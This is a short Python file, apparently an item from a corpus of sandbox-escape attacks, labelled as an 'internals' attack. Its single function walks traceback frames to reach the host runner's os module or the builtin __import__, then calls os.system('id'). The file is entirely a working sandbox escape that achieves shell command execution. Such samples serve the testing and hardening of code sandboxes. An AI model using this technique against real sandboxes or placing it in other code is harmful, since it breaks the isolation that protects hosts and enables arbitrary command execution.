# corpus: attack class=internals form=targeted
# A traceback's frames lead up to the runner's frames, which hold os.
def main():
    try:
        raise ValueError
    except ValueError as error:
        frame = error.__traceback__.tb_frame
    while frame is not None:
        if "os" in frame.f_globals:
            return {"status": frame.f_globals["os"].system("id")}
        importer = frame.f_builtins["__import__"]
        frame = frame.f_back
    return {"status": importer("os").system("id")}
